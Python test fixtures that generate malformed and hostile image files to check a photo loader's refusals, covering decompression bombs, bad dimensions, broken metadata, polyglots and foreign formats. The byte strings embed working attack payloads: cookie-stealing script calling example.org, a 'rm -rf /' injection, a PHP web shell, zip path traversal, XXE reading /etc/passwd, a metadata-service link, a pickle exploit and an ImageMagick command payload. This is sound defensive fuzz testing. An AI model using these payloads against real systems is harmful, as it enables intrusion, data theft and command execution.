"""Bad files, made on the fly: named cases, each with what may become of it. Nothing of it is kept in the repository.

``cases()`` gives them all; a case builds its bytes when asked, as some take seconds. What random changes do to a file
cannot be foretold, so those cases expect any outcome; all others name it.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache, partial

import numpy as np
from PIL import Image, ImageCms, PngImagePlugin

from skin_model.photo import PhotoRefused
from tests.hostile import containers, stated_colours
from tests.skin_model.pictures import claiming, encode, png_chunk, rendered

PHOTO = "photo"
"""The outcome of a file that opens; every other outcome is a refusal's code."""
ANY = frozenset({PHOTO} | {kind.code for kind in PhotoRefused.__subclasses__()}) - {"file_too_large"}
LARGEST = 7_745
"""The side of a square of just under 60 megapixels, the most that is opened."""


@dataclass(frozen=True)
class Case:
    """A bad file. name: family/what. outcomes: PHOTO and codes of refusals that are right for it. slow: takes seconds
    to make, or measures time. suffix: what the file calls itself.
    """

    name: str
    build: Callable[[], bytes]
    outcomes: frozenset[str]
    slow: bool = False
    suffix: str = ".jpg"


@cache
def cases() -> tuple[Case, ...]:
    """All of them, in a fixed order; their names differ."""
    families = (truncated, flipped, bombs, sizes, modes, metadata, frames, polyglots, foreign, scans, heif_boxes)
    return tuple(case for family in (*families, colours) for case in family())


def _case(name: str, build: Callable[[], bytes] | bytes, *outcomes: str, **options) -> Case:
    made = (lambda: build) if isinstance(build, bytes) else build
    return Case(name, made, frozenset(outcomes) or ANY, **options)


@cache
def complete() -> dict[str, bytes]:
    """One good file of every kind that is opened."""
    return {
        "jpeg": encode(rendered(), "JPEG", quality=90),
        "jpeg-progressive": encode(rendered(), "JPEG", progressive=True),
        "png": encode(rendered(), "PNG"),
        "png-interlaced": containers.png(rendered(), interlaced=True),
        "webp": encode(rendered(), "WEBP"),
        "webp-lossless": encode(rendered(), "WEBP", lossless=True),
        "heic": encode(rendered(), "HEIF"),
    }


def truncated() -> Iterator[Case]:
    """Every kind cut at eight places, header and body."""
    for kind, whole in complete().items():
        for share in (0.02, 0.1, 0.25, 0.4, 0.55, 0.7, 0.85, 0.95):
            length = max(12, int(share * len(whole)))
            yield _case(f"truncated/{kind}-at-{share}", whole[:length], "damaged_file")
    yield _case("truncated/jpeg-without-its-end-mark", complete()["jpeg"][:-2], PHOTO)
    yield _case("truncated/jpeg-without-its-last-pixels", complete()["jpeg"][:-40], "damaged_file")


def flipped() -> Iterator[Case]:
    """Every kind with bits flipped: few in the header, few anywhere, many."""
    for kind, whole in complete().items():
        for number, (flips, among) in enumerate([(1, 64), (3, 200), (8, 10**9), (64, 10**9)]):
            chance, data = random.Random(f"{kind} {number}"), bytearray(whole)
            for _ in range(flips):
                data[chance.randrange(12, min(among, len(data)))] ^= 1 << chance.randrange(8)
            yield _case(f"flipped/{kind}-{flips}-of-{'all' if among > 1000 else among}", bytes(data))


def _plain(mode: str, colour: object, side: int = LARGEST) -> Image.Image:
    return Image.new(mode, (side, side), colour)


def _turned(orientation: object = 6) -> Image.Exif:
    tags = Image.Exif()
    tags[0x0112] = orientation
    return tags


def bombs() -> Iterator[Case]:
    """Small files of many pixels: over the limit refused unread, at the limit opened, within memory."""
    over = "too_many_pixels"
    yield _case("bombs/png-60000-square", partial(containers.png_of_zeros, 60_000, 60_000, rows=2_000), over)
    yield _case("bombs/png-claims-2-to-the-31", claiming(2**31 - 1, 2**31 - 1, "PNG"), over, "damaged_file")
    yield _case("bombs/jpeg-65000-square", claiming(65_000, 65_000, "JPEG"), over)
    yield _case("bombs/heic-claims-65000-square", claiming(65_000, 65_000, "HEIF"), over, "damaged_file")
    yield _case("bombs/webp-16000-square", containers.webp_of_one_colour(16_000, 16_000), over)
    yield _case("bombs/webp-canvas-16384-square", containers.webp_animation(16_384, 16_384, 1), over)
    yield _case("bombs/gif-65535-square", containers.gif(65_535, 65_535), "unsupported_format", suffix=".gif")
    yield _case("bombs/gif-of-3000-frames", containers.gif(200, 200, frames=3_000), "unsupported_format", suffix=".gif")
    yield _case("bombs/tiff-100000-square", containers.tiff(100_000, 100_000), "unsupported_format", suffix=".tif")
    large = partial(_case, slow=True)
    for mode, colour in (("1", 1), ("L", 9), ("LA", (9, 99)), ("P", 3), ("RGB", "tan"), ("RGBA", (9, 99, 200, 99))):
        plain = partial(_plain, mode, colour)
        yield large(f"bombs/png-{mode}-at-the-limit", lambda plain=plain: encode(plain(), "PNG"), PHOTO)
        yield large(
            f"bombs/png-{mode}-at-the-limit-turned", lambda plain=plain: encode(plain(), "PNG", exif=_turned()), PHOTO
        )
    yield large(
        "bombs/png-P-half-transparent-turned",
        lambda: encode(_plain("P", 3), "PNG", exif=_turned(), transparency=b"\x30" * 256),
        PHOTO,
    )
    for colours, depth in ((1, 16), (3, 16), (4, 16)):
        yield large(
            f"bombs/png-{colours}-colours-of-{depth}-bits",
            partial(containers.png_of_zeros, LARGEST, LARGEST, colours=colours, depth=depth),
            PHOTO,
        )
    yield large(
        "bombs/png-interlaced-at-the-limit",
        partial(containers.png_of_zeros, LARGEST, LARGEST, colours=3, interlaced=True),
        PHOTO,
    )
    yield large(
        "bombs/webp-lossless-at-its-limit",
        lambda: encode(_plain("RGB", "tan", 6_900), "WEBP", lossless=True, method=0),
        PHOTO,
    )
    yield _case("bombs/webp-lossless-over-its-limit", containers.webp_of_one_colour(LARGEST, LARGEST), over)
    yield large("bombs/webp-lossy-at-the-limit", lambda: encode(_plain("RGB", "tan"), "WEBP", method=0), PHOTO)
    yield large(
        "bombs/webp-transparent-at-its-limit",
        lambda: encode(_plain("RGBA", (9, 99, 200, 99), 6_900), "WEBP", method=0),
        PHOTO,
    )
    for kind, mode in (("baseline", "RGB"), ("progressive", "RGB"), ("progressive", "L"), ("baseline", "CMYK")):
        yield large(
            f"bombs/jpeg-{kind}-{mode}-at-the-limit",
            lambda kind=kind, mode=mode: encode(
                _plain(mode, 0), "JPEG", progressive=kind == "progressive", exif=_turned()
            ),
            PHOTO,
        )
    yield large("bombs/jpeg-progressive-CMYK", lambda: encode(_plain("CMYK", 0), "JPEG", progressive=True), over)
    yield large("bombs/jpeg-noise-of-19-megabytes", partial(noisy_jpeg, False), PHOTO)
    yield large("bombs/jpeg-noise-progressive", partial(noisy_jpeg, True), PHOTO)
    yield large("bombs/jpeg-arithmetic-of-19-megabytes", containers.jpeg_arithmetic, PHOTO, "damaged_file")
    yield large(
        "bombs/heic-grid-of-one-tile-225-times", partial(containers.heic_grid, 15, 15, noisy=True), "damaged_file"
    )


def noisy_jpeg(progressive: bool) -> bytes:
    """60 megapixels of noise in as many of the 20 MB as it can fill."""
    noise = np.random.default_rng(0).integers(90, 160, (LARGEST, LARGEST, 3), np.uint8)
    part, options = noise[:968, :968], {"subsampling": 0, "progressive": progressive}
    quality = next(q for q in range(90, 0, -2) if 64 * len(encode(part, "JPEG", quality=q, **options)) < 19_000_000)
    return encode(noise, "JPEG", quality=quality, **options)


def sizes() -> Iterator[Case]:
    """Dimensions that nobody has: none, one, negative, and a mile long."""
    small, long = "too_small_photo", "too_elongated"
    for kind in ("JPEG", "PNG", "WEBP", "HEIF"):
        yield _case(f"sizes/{kind}-1x1", encode(rendered(1, 1), kind), small)
        yield _case(f"sizes/{kind}-95x200", encode(rendered(95, 200), kind), small)
    for width, height in ((60_000, 1), (1, 60_000)):
        yield _case(f"sizes/png-{width}x{height}", partial(containers.png_of_zeros, width, height), small)
        yield _case(f"sizes/jpeg-{width}x{height}", partial(encode, Image.new("L", (width, height)), "JPEG"), small)
    yield _case("sizes/png-60000x500", partial(containers.png_of_zeros, 60_000, 500), long)
    for name, width, height in (
        ("zero", 0, 0),
        ("zero-wide", 0, 200),
        ("minus-one", 2**32 - 1, 2**32 - 1),
        ("minus-200", 2**32 - 200, 2**32 - 200),
        ("wraps-to-nothing", 2**16, 2**16 + 2**31),
    ):
        outcomes = ("damaged_file", small, "too_many_pixels")
        yield _case(f"sizes/png-{name}", claiming(width, height, "PNG"), *outcomes)
        yield _case(f"sizes/heic-{name}", claiming(width, height, "HEIF"), *outcomes, long)
    yield _case("sizes/jpeg-zero", claiming(0, 0, "JPEG"), "damaged_file", small)
    yield _case("sizes/jpeg-zero-high", claiming(200, 0, "JPEG"), "damaged_file", small)
    yield _case("sizes/jpeg-larger-than-its-pixels", claiming(1_600, 1_200, "JPEG"), PHOTO, "damaged_file")
    yield _case("sizes/png-larger-than-its-pixels", claiming(1_600, 1_200, "PNG"), "damaged_file")
    yield _case("sizes/png-smaller-than-its-pixels", claiming(100, 100, "PNG"), PHOTO, "damaged_file")
    yield _case("sizes/heic-smaller-than-its-pixels", claiming(100, 100, "HEIF"), PHOTO, "damaged_file")
    yield _case("sizes/heic-larger-than-its-pixels", claiming(1_600, 1_200, "HEIF"), PHOTO, "damaged_file")
    yield _case("sizes/webp-canvas-other-than-its-picture", containers.webp_lying_canvas(), "damaged_file")


def modes() -> Iterator[Case]:
    """Colours that cameras do not write."""
    yield _case("modes/jpeg-cmyk", encode(Image.new("CMYK", (120, 120), (9, 8, 7, 6)), "JPEG"), PHOTO)
    yield _case("modes/jpeg-ycck", containers.jpeg_ycck(), PHOTO)
    yield _case("modes/png-16-bit-grey", containers.png_of_zeros(120, 120, depth=16), PHOTO)
    yield _case("modes/png-16-bit-rgba", containers.png_of_zeros(120, 120, colours=4, depth=16), PHOTO)
    yield _case("modes/png-1-bit", containers.png_of_zeros(120, 120, depth=1), PHOTO)
    holes = "damaged_file", PHOTO
    yield _case("modes/png-palette-with-holes", containers.png_palette(entries=3, used=200), *holes)
    yield _case("modes/png-palette-empty", containers.png_palette(entries=0, used=2), *holes)
    yield _case("modes/png-palette-missing", containers.png_palette(entries=None, used=2), *holes)
    yield _case("modes/png-palette-of-2-and-a-half-colours", containers.png_palette(entries=2.5, used=2), *holes)
    yield _case("modes/png-palette-of-300-colours", containers.png_palette(entries=300, used=2), *holes)
    yield _case("modes/png-transparency-longer-than-palette", containers.png_palette(3, 2, b"\x80" * 256), *holes)
    yield _case("modes/png-transparency-of-one-byte-on-rgb", with_chunk(b"tRNS", b"\x01"), *holes)
    yield _case("modes/png-transparency-empty", with_chunk(b"tRNS", b""), *holes)
    for colour, depth in ((3, 16), (2, 4), (5, 8), (255, 255), (0, 0)):
        kind = containers.png_of_zeros(120, 120, header=(depth, colour))
        yield _case(f"modes/png-colour-type-{colour}-of-{depth}-bits", kind, "damaged_file")


def with_chunk(kind: bytes, *contents: bytes) -> bytes:
    """A good PNG with further chunks before its pixels."""
    data = complete()["png"]
    at = data.index(b"IDAT") - 4
    return data[:at] + b"".join(png_chunk(kind, content) for content in contents) + data[at:]


def metadata() -> Iterator[Case]:
    """Tags and profiles that are broken, huge, or a script."""
    script = b"<script>alert(document.cookie)</script>"
    exif = Image.Exif()
    exif[0x010E] = script.decode()
    broken = {
        "exif-cut": b"Exif\0\0II*\0\x08\0\0\0\xff\xff",
        "exif-loop": b"Exif\0\0II*\0\x08\0\0\0\x01\0\x69\x87\x04\0\x01\0\0\0\x08\0\0\0\x08\0\0\0",
        "exif-of-4-billion-entries": b"Exif\0\0MM\0*\0\0\0\x08\x01\x12\0\x03\xff\xff\xff\xff\0\0\0\x08",
        "exif-of-ff": b"Exif\0\0" + b"\xff" * 60_000,
        "exif-empty": b"Exif\0\0",
        "exif-with-script": exif.tobytes(),
    }
    for name, tags in broken.items():
        for kind in ("JPEG", "PNG", "WEBP"):
            yield _case(f"metadata/{kind}-{name}", encode(rendered(), kind, exif=tags), PHOTO)
    for orientation in (0, 9, 65_535, "6; rm -rf /", 1.5, (6, 6)):
        tags = containers.exif_of_orientation(orientation)
        yield _case(f"metadata/jpeg-orientation-{orientation}", encode(rendered(), "JPEG", exif=tags), PHOTO)
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    for name, content in {
        "cut": profile[:200],
        "zeros": bytes(3_000),
        "of-4-gigabytes": b"\xff\xff\xff\xff" + profile[4:],
        "of-a-million-tags": profile[:128] + b"\0\x0f\xff\xff" + profile[132:],
        "not-a-number": profile.replace(b"para", b"curv"),
        "of-lab": ImageCms.ImageCmsProfile(ImageCms.createProfile("LAB")).tobytes(),
    }.items():
        for kind in ("JPEG", "PNG", "WEBP"):
            yield _case(f"metadata/{kind}-profile-{name}", encode(rendered(), kind, icc_profile=content), PHOTO)
    for name, kind in (("profile", b"iCCP"), ("text", b"zTXt")):
        yield _case(f"metadata/png-{name}-of-200-megabytes", partial(_packed, kind), PHOTO, "damaged_file")
    yield _case(
        "metadata/png-text-with-script", encode(rendered(), "PNG", pnginfo=_text("Comment", script.decode())), PHOTO
    )
    yield _case(
        "metadata/png-100000-texts", with_chunk(b"tEXt", *[b"a\0b"] * 100_000), PHOTO, "damaged_file", slow=True
    )
    laughs = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><x:xmpmeta>&b;</x:xmpmeta>'
    yield _case("metadata/jpeg-xmp-of-entities", encode(rendered(), "JPEG", xmp=laughs), PHOTO)
    yield _case("metadata/jpeg-comment-with-script", encode(rendered(), "JPEG", comment=script), PHOTO)
    jpeg = complete()["jpeg"]
    for name, segments in {
        "20000-comments": b"\xff\xfe\0\x04hi" * 20_000,
        "20000-profile-parts": b"\xff\xe2\0\x12ICC_PROFILE\0\x01\xff\0\0" * 20_000,
        "segments-of-no-length": b"\xff\xe1\0\0" * 50,
    }.items():
        yield _case(f"metadata/jpeg-{name}", jpeg[:2] + segments + jpeg[2:], PHOTO, "damaged_file")


def _packed(kind: bytes) -> bytes:
    return with_chunk(kind, b"x\0\0" + zlib.compress(bytes(200_000_000), 1))


def _text(key: str, value: str) -> PngImagePlugin.PngInfo:
    found = PngImagePlugin.PngInfo()
    found.add_text(key, value)
    return found


def frames() -> Iterator[Case]:
    """Animations: the first picture counts, and thousands more cost nothing."""
    yield _case("frames/webp-of-2000", partial(containers.webp_animation, 160, 120, 2_000), PHOTO)
    yield _case("frames/webp-of-none", containers.webp_animation(160, 120, 0), "damaged_file")
    yield _case("frames/webp-outside-its-canvas", containers.webp_animation(160, 120, 1, left=100), "damaged_file")
    yield _case("frames/webp-smaller-than-its-canvas", containers.webp_animation(400, 300, 1, left=40), PHOTO)
    yield _case("frames/png-of-2000", partial(containers.apng, 2_000), PHOTO)
    yield _case("frames/png-claims-4-billion", with_chunk(b"acTL", struct.pack(">II", 2**32 - 1, 0)), PHOTO)
    yield _case("frames/png-claims-none", with_chunk(b"acTL", bytes(8)), PHOTO)
    yield _case("frames/heic-of-3", partial(containers.heic_of, 3), PHOTO)


def polyglots() -> Iterator[Case]:
    """Files that are something else as well, or call themselves what they are not."""
    page = b"<!doctype html><script>fetch('https://example.org/?' + document.cookie)</script>"
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as opened:
        opened.writestr("../../evil.py", "print('no')")
    for kind in ("jpeg", "png", "webp", "heic"):
        whole = complete()[kind]
        yield _case(f"polyglots/{kind}-and-zip", whole + archive.getvalue(), PHOTO)
        yield _case(f"polyglots/{kind}-and-html", whole + page, PHOTO, suffix=".html")
        yield _case(f"polyglots/{kind}-called-exe", whole, PHOTO, suffix=".exe")
    jpeg = complete()["jpeg"]
    yield _case("polyglots/html-in-a-jpeg-comment", encode(rendered(), "JPEG", comment=page), PHOTO, suffix=".html")
    yield _case("polyglots/pdf-before-a-jpeg", b"%PDF-1.7\n" + jpeg, "unsupported_format", suffix=".pdf")
    yield _case("polyglots/zip-before-a-jpeg", archive.getvalue() + jpeg, "unsupported_format")
    yield _case("polyglots/gif-that-is-javascript", b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)", "unsupported_format")
    yield _case("polyglots/jpeg-in-a-jpeg", jpeg[:2] + b"\xff\xe1\x20\x02" + jpeg[:0x2000].ljust(0x2000), PHOTO, *ANY)
    yield _case("polyglots/png-called-jpeg", complete()["png"], PHOTO)
    yield _case("polyglots/png-with-php", with_chunk(b"tEXt", b"a\0<?php system($_GET['c']); ?>"), PHOTO, suffix=".php")


def foreign() -> Iterator[Case]:
    """What is no photo at all."""
    svg = '<svg xmlns="http://www.w3.org/2000/svg" width="500" height="500">{}</svg>'
    for name, data in {
        "svg-with-script": svg.format("<script>alert(1)</script>").encode(),
        "svg-with-link": svg.format('<image href="http://169.254.169.254/latest/meta-data"/>').encode(),
        "svg-with-entity": b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + svg.format("&x;").encode(),
        "eps": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 500 500\n(/etc/passwd) (r) file\n",
        "text": b"This is not a picture.",
        "one-byte": b"\xff",
        "elf": b"\x7fELF\x02\x01\x01" + bytes(57),
        "pickle": b"cos\nsystem\n(S'false'\ntR.",
        "zip": b"PK\x03\x04" + bytes(40),
        "video": b"\0\0\0\x18ftypisom\0\0\2\0isomiso2",
        "imagemagick": b"push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://example.org/\"|id\")'\n",
        "zeros": bytes(2**20),
        "random": random.Random(0).randbytes(2**20),
        "start-of-jpeg": b"\xff\xd8",
        "start-of-png": b"\x89PNG\r\n\x1a",
        "riff-of-sound": b"RIFF\x24\0\0\0WAVEfmt " + bytes(20),
    }.items():
        yield _case(f"foreign/{name}", data, "unsupported_format")
    for kind in ("GIF", "TIFF", "BMP", "JPEG2000", "ICO", "PPM", "AVIF"):
        picture = Image.fromarray(rendered())
        yield _case(f"foreign/{kind}", encode(picture, kind), "unsupported_format", suffix=f".{kind.lower()}")
    yield _case("foreign/empty", b"", "empty_file")
    yield _case("foreign/jpeg-of-20-megabytes-and-1", complete()["jpeg"].ljust(20 * 2**20 + 1, b"\0"), "file_too_large")
    beginnings = {"jpeg": b"\xff\xd8\xff", "png": b"\x89PNG\r\n\x1a\n", "webp": b"RIFF\x40\0\0\0WEBP"}
    for name, beginning in beginnings.items():
        yield _case(f"foreign/{name}-then-random", beginning + random.Random(1).randbytes(50_000), "damaged_file")
        yield _case(f"foreign/{name}-then-zeros", beginning + bytes(50_000), "damaged_file")
        yield _case(f"foreign/{name}-then-ones", beginning + b"\xff" * 50_000, "damaged_file")


def scans() -> Iterator[Case]:
    """JPEGs that make a decoder work: thousands of passes, and markers in wrong places."""
    jpeg, progressive = complete()["jpeg"], complete()["jpeg-progressive"]
    last = progressive[progressive.rindex(b"\xff\xda") : -2]
    yield _case("scans/1000", progressive[:-2] + 1000 * last + progressive[-2:], "damaged_file")
    yield _case("scans/20-at-the-limit", partial(_many_scans, 20), PHOTO, slow=True)
    yield _case("scans/ends-in-zeros", jpeg[: len(jpeg) // 2].ljust(len(jpeg), b"\0"), "damaged_file")
    yield _case("scans/of-markers-only", b"\xff\xd8" + b"\xff\xd0" * 100_000 + b"\xff\xd9", "damaged_file")
    yield _case("scans/two-frames", jpeg[:-2] + jpeg[jpeg.index(b"\xff\xc0") :], PHOTO, "damaged_file")
    yield _case("scans/tables-missing", containers.without_segments(jpeg, 0xC4, 0xDB), PHOTO, "damaged_file")
    yield _case("scans/twelve-bits", jpeg.replace(b"\xff\xc0\0\x11\x08", b"\xff\xc0\0\x11\x0c"), "damaged_file")
    yield _case("scans/lossless-frame", jpeg.replace(b"\xff\xc0", b"\xff\xc3"), "damaged_file")
    yield _case("scans/sampling-of-nothing", containers.jpeg_sampling(0x00), "damaged_file")
    yield _case("scans/sampling-of-15", containers.jpeg_sampling(0xFF), "damaged_file")


def _many_scans(count: int) -> bytes:
    data = encode(_plain("RGB", "tan", 7_700), "JPEG", progressive=True)
    last = data[data.rindex(b"\xff\xda") : -2]
    return data[:-2] + (count - data.count(b"\xff\xda")) * last + data[-2:]


def heif_boxes() -> Iterator[Case]:
    """HEIF is boxes in boxes that name each other: loops, lies and boxes without end.

    Where its grid cannot be put together, libheif shows the tile: a photo like any other.
    """
    whole = complete()["heic"]
    broken = "damaged_file"
    yield _case("heif/box-of-no-length", containers.heic_with(whole, b"meta", length=0), broken, PHOTO)
    yield _case("heif/box-of-4-gigabytes", containers.heic_with(whole, b"iloc", length=2**32 - 1), broken)
    yield _case("heif/box-in-itself", whole[:24] + b"\0\0\0\x10meta\0\0\0\0\0\0\0\x08meta" * 2_000, broken)
    yield _case(
        "heif/primary-picture-missing", containers.heic_with(whole, b"pitm", content=b"\0\0\0\0\x77\x77"), broken
    )
    yield _case("heif/called-avif", whole.replace(b"ftypheic", b"ftypavif", 1), "unsupported_format")
    yield _case("heif/called-mif1", whole.replace(b"ftypheic", b"ftypmif1", 1), PHOTO)
    yield _case("heif/grid-of-one-tile-4-times", partial(containers.heic_grid, 2, 2), broken)
    yield _case("heif/grid-of-65536-tiles", partial(containers.heic_grid, 256, 256, references=1), broken, PHOTO)
    yield _case("heif/grid-of-itself", partial(containers.heic_grid, 1, 1, tile=2), broken, PHOTO)


def colours() -> Iterator[Case]:
    """Stated colours: converted, refused where nobody knows them, ignored where they are broken."""
    yield from (_case(f"colours/{name}", *told) for name, told in stated_colours.files().items())
